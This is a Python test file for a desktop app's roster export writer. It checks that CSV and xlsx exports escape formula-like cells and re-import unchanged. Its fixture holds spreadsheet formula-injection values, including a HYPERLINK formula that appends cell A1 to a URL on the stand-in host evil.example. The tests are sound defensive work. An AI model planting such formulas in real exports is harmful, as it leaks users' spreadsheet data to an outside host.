"""The shared export writer (issue 9, §1): no text leaves as a live formula, in CSV or xlsx, and
the app's own exports re-import to the same data."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from scfn_desktop.services import exports
from scfn_desktop.services.roster.export import export_roster, export_roster_to
from scfn_desktop.services.roster.importing import (
    CHANGED,
    INVALID,
    NEW,
    apply_import,
    preview_import,
)
from scfn_desktop.services.roster.trainees import list_trainees

HOSTILE = {
    "1": ("=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")"),
    "2": ("@SUM(A1:A9)", "+81 窓口"),
    "3": ("-2 山田", "'=already quoted"),
    "4": ("'''=three", "'plain apostrophe"),
}


@given(st.text(alphabet=st.sampled_from("'=+-@\t\rabc山"), max_size=8))
def test_the_csv_escape_is_reversible_and_never_leaves_a_formula(text):
    written = exports.neutralise(text)
    assert exports.restore_csv_cell(written) == text
    assert not written.startswith(exports.FORMULA_START)


def test_numbers_are_not_text_and_stay_as_they_are():
    assert exports.neutralise(-5) == -5
    assert exports.restore_csv_cell("'abc") == "'abc"  # not ours to undo


def _hostile_roster(db, actor, tmp_path):
    """Seeded from JSON, which has no spreadsheet escape: the names arrive exactly as typed."""
    source = tmp_path / "hostile.json"
    source.write_text(json.dumps({"trainees": [
        {"受講番号": number, "姓": family, "名": "太郎", "所属機関": org, "都道府県": "東京都"}
        for number, (family, org) in HOSTILE.items()]}, ensure_ascii=False), encoding="utf-8")
    apply_import(db, actor, source)
    stored = {t.trainee_number: (t.family_name, t.organisation) for t in list_trainees(db)}
    assert stored == HOSTILE  # what people typed is stored as typed
    return db


def test_roster_csv_export_neutralises_every_formula_like_cell(db, actor, tmp_path):
    _hostile_roster(db, actor, tmp_path)
    for encoding in ("utf-8-sig", "cp932"):
        data = export_roster(db, actor, "csv", encoding=encoding).data
        rows = list(csv.reader(io.StringIO(data.decode(encoding), newline="")))
        cells = [c for row in rows[1:] for c in row]
        assert not [c for c in cells if c.startswith(exports.FORMULA_START)]
        assert "'=1+1" in cells and "'@SUM(A1:A9)" in cells and "''=already quoted" in cells
        assert "'plain apostrophe" in cells  # ordinary text is left alone


def test_roster_xlsx_export_has_no_formula_and_quote_prefixed_text(db, actor, tmp_path):
    _hostile_roster(db, actor, tmp_path)
    path = tmp_path / "r.xlsx"
    export_roster_to(db, actor, path)
    with zipfile.ZipFile(path) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
        styles = z.read("xl/styles.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    assert 'quotePrefix="1"' in styles
    ws = load_workbook(path).active  # not data_only: a formula would come back as "=..." type f
    values = {ws.cell(r, 1).value: (ws.cell(r, 2), ws.cell(r, 7)) for r in range(2, 6)}
    family, org = values["1"]
    assert (family.value, family.data_type, family.quotePrefix) == ("=1+1", "s", True)
    assert org.value.startswith("=HYPERLINK(") and org.data_type == "s"


def test_every_export_format_re_imports_to_the_same_data(db, actor, tmp_path):
    """Today the xlsx re-import failed ("Name is missing": the name had become a formula)."""
    _hostile_roster(db, actor, tmp_path)
    for fmt, encoding in (("xlsx", "utf-8-sig"), ("csv", "utf-8-sig"), ("csv", "cp932"),
                          ("json", "utf-8-sig")):
        path = tmp_path / f"again-{encoding}.{fmt}"
        export_roster_to(db, actor, path, encoding=encoding)
        preview = preview_import(path, db)
        assert preview.counts[NEW] == preview.counts[CHANGED] == preview.counts[INVALID] == 0, (
            fmt, encoding, [e.text("en") for e in preview.errors])
        assert apply_import(db, actor, preview).unchanged == 4


def test_an_office_csv_with_an_excel_apostrophe_reads_as_the_text_meant(db, actor, tmp_path):
    path = tmp_path / "office.csv"
    path.write_text("受講番号,氏名,所属機関,都道府県\n1,'=山田 太郎,'@窓口,東京都\n", encoding="utf-8")
    values = preview_import(path).rows[0].values
    assert (values["family_name"], values["organisation"]) == ("=山田", "@窓口")


def test_table_widths_text_columns_and_frozen_header():
    data = exports.xlsx_bytes([exports.Table("名簿", ["番号", "氏名"], [["0012", "=x"]],
                                             text_columns=frozenset({0}), widths=(8, 20))])
    ws = load_workbook(io.BytesIO(data)).active
    assert ws.title == "名簿" and ws.freeze_panes == "A2" and ws["A1"].font.bold
    assert ws["A2"].value == "0012" and ws["A2"].number_format == "@"
    assert ws.column_dimensions["B"].width == 20


def test_write_file_leaves_no_partial_file(tmp_path):
    target = tmp_path / "missing-folder" / "x.csv"
    try:
        exports.write_file(target, b"data")
    except exports.ServiceError as exc:
        assert "missing-folder" in exc.message_ja
    assert not list(tmp_path.rglob("*.part"))
    exports.write_file(tmp_path / "ok.csv", b"data")
    assert [p.name for p in tmp_path.iterdir() if re.search(r"\.part$", p.name)] == []
